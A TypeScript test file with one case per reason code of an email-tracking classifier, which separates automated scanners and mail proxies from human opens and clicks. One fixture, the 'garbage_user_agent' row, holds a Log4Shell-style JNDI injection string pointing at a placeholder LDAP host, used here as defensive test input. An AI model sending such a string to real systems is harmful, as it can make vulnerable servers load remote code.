// One test per reason code: the exact verdict, fetcher and reasons of a request that shows it.

import { describe, expect, it } from 'vitest';
import { REASONS, type Fetcher, type TrackingRequest, type Verdict } from '@/lib/classifier';
import { brief, classify, click, IP, open, UA } from './build';

interface Row {
  reason: string;
  thread: TrackingRequest[];
  linkCount?: number;
  /** Which request of the thread to check (default: the last). */
  pick?: number;
  verdict: Verdict;
  fetcher: Fetcher;
  reasons: string[];
}

const burstClicks = (ip: string, ua: string, fromS: number, links: number) =>
  Array.from({ length: links }, (_, k) => click(ip, ua, fromS + k * 0.1, { linkIndex: k }));

const TABLE: Row[] = [
  {
    reason: 'apple_privacy_relay',
    thread: [open(IP.appleRelay, UA.mppBare, 3600)],
    verdict: 'automated',
    fetcher: 'apple_mpp',
    reasons: ['apple_privacy_relay'],
  },
  {
    reason: 'apple_mpp_user_agent',
    thread: [open(IP.person, UA.mppBare, 3600)],
    verdict: 'automated',
    fetcher: 'apple_mpp',
    reasons: ['apple_mpp_user_agent'],
  },
  {
    reason: 'gmail_prefetch',
    thread: [open(IP.gmailProxy, UA.googleProxy, 5)],
    verdict: 'automated',
    fetcher: 'google_image_proxy',
    reasons: ['gmail_prefetch'],
  },
  {
    reason: 'gmail_prefetch_agent',
    thread: [open(IP.gmailProxy, UA.gmailPrefetch, 30)],
    verdict: 'automated',
    fetcher: 'google_image_proxy',
    reasons: ['gmail_prefetch_agent', 'near_delivery'],
  },
  {
    reason: 'yahoo_prefetch',
    thread: [open(IP.yahooProxy, UA.yahooProxy, 6)],
    verdict: 'automated',
    fetcher: 'yahoo_proxy',
    reasons: ['yahoo_prefetch'],
  },
  {
    reason: 'yahoo_link_fetch',
    thread: [click(IP.yahooProxy, UA.yahooProxy, 400)],
    verdict: 'automated',
    fetcher: 'yahoo_proxy',
    reasons: ['yahoo_link_fetch', 'click_before_open'],
  },
  {
    reason: 'microsoft_mail_filter',
    thread: [open(IP.eop, UA.chromeWindows, 7200)],
    verdict: 'automated',
    fetcher: 'microsoft_safelinks',
    reasons: ['microsoft_mail_filter'],
  },
  {
    reason: 'outlook_link_preview',
    thread: [click(IP.exchange, UA.msie10Preview, 7000)],
    verdict: 'automated',
    fetcher: 'outlook_scanning',
    reasons: ['outlook_link_preview', 'click_before_open'],
  },
  {
    reason: 'office_existence_discovery',
    thread: [click(IP.person, UA.officeDiscovery, 9000, { method: 'HEAD' })],
    verdict: 'automated',
    fetcher: 'outlook_scanning',
    reasons: ['office_existence_discovery', 'head_request', 'click_before_open'],
  },
  {
    reason: 'scanner_user_agent',
    thread: [open(IP.person, UA.barracuda, 3600)],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['scanner_user_agent'],
  },
  {
    reason: 'scanner_network',
    thread: [open(IP.proofpoint, UA.chromeWindows, 8)],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['scanner_network', 'near_delivery'],
  },
  {
    reason: 'datacenter_click',
    thread: [open(IP.person, UA.thunderbird, 3000), click(IP.aws, UA.chromeWindows, 90_000)],
    verdict: 'automated',
    fetcher: 'security_sandbox',
    reasons: ['datacenter_click'],
  },
  {
    reason: 'datacenter_open',
    thread: [open(IP.aws, UA.chromeWindows, 30)],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['datacenter_open', 'near_delivery'],
  },
  {
    reason: 'near_delivery',
    thread: [open(IP.gcp, UA.chromeWindows, 119)],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['datacenter_open', 'near_delivery'],
  },
  {
    reason: 'instant_click',
    thread: [click('40.94.89.19', UA.chromeWindows, 6)],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['instant_click', 'near_delivery', 'click_before_open'],
  },
  {
    reason: 'scan_pixel',
    thread: [open('68.232.140.7', UA.chromeWindows, 3), click('68.232.140.7', UA.chromeWindows, 4)],
    pick: 0,
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['scan_pixel', 'near_delivery'],
  },
  {
    reason: 'head_request',
    thread: [
      open(IP.person, UA.thunderbird, 600),
      click(IP.person, UA.chromeWindows, 900, { method: 'HEAD' }),
    ],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['head_request'],
  },
  {
    reason: 'unexpected_method',
    thread: [open(IP.person, UA.chromeWindows, 600, { method: 'OPTIONS' })],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['unexpected_method'],
  },
  {
    reason: 'before_delivery',
    thread: [open(IP.person, UA.chromeWindows, -3)],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['before_delivery'],
  },
  {
    reason: 'link_burst',
    thread: [
      open(IP.person2, UA.outlookDesktop, 40),
      ...burstClicks(IP.person, UA.chromeWindows, 45, 3),
    ],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['link_burst', 'near_delivery'],
  },
  {
    reason: 'all_links_clicked',
    thread: [
      open(IP.person, UA.thunderbird, 500),
      click(IP.person, UA.chromeWindows, 600, { linkIndex: 0 }),
      click(IP.person, UA.chromeWindows, 620, { linkIndex: 1 }),
      click(IP.person, UA.chromeWindows, 640, { linkIndex: 2 }),
    ],
    linkCount: 3,
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['all_links_clicked'],
  },
  {
    reason: 'click_time_check',
    thread: [
      click(IP.mimecast, UA.chromeWindows, 12_000),
      click(IP.person, UA.chromeWindows, 12_003),
    ],
    pick: 0,
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['click_time_check', 'scanner_network', 'click_before_open'],
  },
  {
    reason: 'recheck_after_click',
    thread: [click(IP.personV6, UA.safariMac, 30), click('168.90.91.133', UA.chromeWindows, 42)],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['recheck_after_click', 'near_delivery', 'click_before_open'],
  },
  {
    reason: 'click_before_open',
    thread: [click(IP.aws, UA.chromeWindows, 5000)],
    verdict: 'automated',
    fetcher: 'security_sandbox',
    reasons: ['datacenter_click', 'click_before_open'],
  },
  {
    reason: 'honeypot_link',
    thread: [click(IP.person, UA.chromeWindows, 3000, { honeypot: true, linkIndex: 9 })],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['honeypot_link'],
  },
  {
    reason: 'honeypot_source',
    thread: [
      open(IP.person, UA.thunderbird, 2000),
      click(IP.person, UA.chromeWindows, 3000, { honeypot: true, linkIndex: 9 }),
      click(IP.person, UA.chromeWindows, 3006, { linkIndex: 1 }),
    ],
    verdict: 'automated',
    fetcher: 'link_scanner',
    reasons: ['honeypot_source'],
  },
  {
    reason: 'declared_bot',
    thread: [open(IP.person, UA.curl, 3000)],
    verdict: 'automated',
    fetcher: 'generic_bot',
    reasons: ['declared_bot'],
  },
  {
    reason: 'headless_browser',
    thread: [open(IP.person, UA.headless, 3000)],
    verdict: 'automated',
    fetcher: 'generic_bot',
    reasons: ['headless_browser'],
  },
  {
    reason: 'missing_user_agent',
    thread: [open(IP.person, null, 3000)],
    verdict: 'automated',
    fetcher: 'generic_bot',
    reasons: ['missing_user_agent'],
  },
  {
    reason: 'garbage_user_agent',
    thread: [open(IP.person, '\\x00\\x01${jndi:ldap://198.51.100.7/a}', 3000)],
    verdict: 'automated',
    fetcher: 'generic_bot',
    reasons: ['garbage_user_agent'],
  },
  {
    reason: 'prefetch_header',
    thread: [
      open(IP.person, UA.thunderbird, 2000),
      click(IP.person, UA.chromeWindows, 3000, { headers: { 'sec-purpose': 'prefetch' } }),
    ],
    verdict: 'automated',
    fetcher: 'generic_bot',
    reasons: ['prefetch_header'],
  },
  {
    reason: 'google_proxy_person',
    thread: [open(IP.gmailProxy, UA.googleProxy, 2400)],
    verdict: 'human',
    fetcher: 'google_image_proxy',
    reasons: ['google_proxy_person'],
  },
  {
    reason: 'yahoo_proxy_person',
    thread: [open(IP.yahooProxy, UA.yahooProxy, 2400)],
    verdict: 'human',
    fetcher: 'yahoo_proxy',
    reasons: ['yahoo_proxy_person'],
  },
  {
    reason: 'outlook_image_proxy',
    thread: [open(IP.exchangeV6, UA.appleMail, 5000)],
    verdict: 'human',
    fetcher: 'human',
    reasons: ['outlook_image_proxy'],
  },
  {
    reason: 'apple_mail_direct',
    thread: [open(IP.person, UA.appleMail, 5000)],
    verdict: 'human',
    fetcher: 'human',
    reasons: ['apple_mail_direct'],
  },
  {
    reason: 'relay_browser',
    thread: [open(IP.appleRelay, UA.mppBare, 600), click(IP.appleRelay, UA.safariIphone, 4000)],
    verdict: 'human',
    fetcher: 'human',
    reasons: ['relay_browser'],
  },
  {
    reason: 'browser_isolation',
    thread: [click(IP.proofpoint, UA.chromeWindows, 5000)],
    verdict: 'human',
    fetcher: 'human',
    reasons: ['browser_isolation'],
  },
  {
    reason: 'corporate_proxy',
    thread: [click(IP.zscaler, UA.chromeWindows, 40_000)],
    verdict: 'human',
    fetcher: 'human',
    reasons: ['corporate_proxy'],
  },
  {
    reason: 'person_after_check',
    thread: [
      click(IP.eop, UA.chromeWindows, 6000, { method: 'HEAD' }),
      click(IP.person, UA.safariMac, 6001),
    ],
    verdict: 'human',
    fetcher: 'human',
    reasons: ['person_after_check'],
  },
  {
    reason: 'mail_client',
    thread: [open(IP.person, UA.outlookDesktop, 900)],
    verdict: 'human',
    fetcher: 'human',
    reasons: ['mail_client'],
  },
  {
    reason: 'ordinary_request',
    thread: [open(IP.person, UA.thunderbird, 900), click(IP.person, UA.chromeAndroid, 1000)],
    verdict: 'human',
    fetcher: 'human',
    reasons: ['ordinary_request'],
  },
];

describe('one test per reason code', () => {
  it.each(TABLE)('$reason', (row) => {
    const all = classify(row.thread, row.linkCount ?? null);
    const result = all[row.pick ?? all.length - 1];
    expect(brief(result)).toEqual({
      verdict: row.verdict,
      fetcher: row.fetcher,
      reasons: row.reasons,
    });
    expect(result.reasons).toContain(row.reason);
  });

  it('covers every reason code', () => {
    expect(new Set(TABLE.map((r) => r.reason))).toEqual(new Set(Object.keys(REASONS)));
  });
});
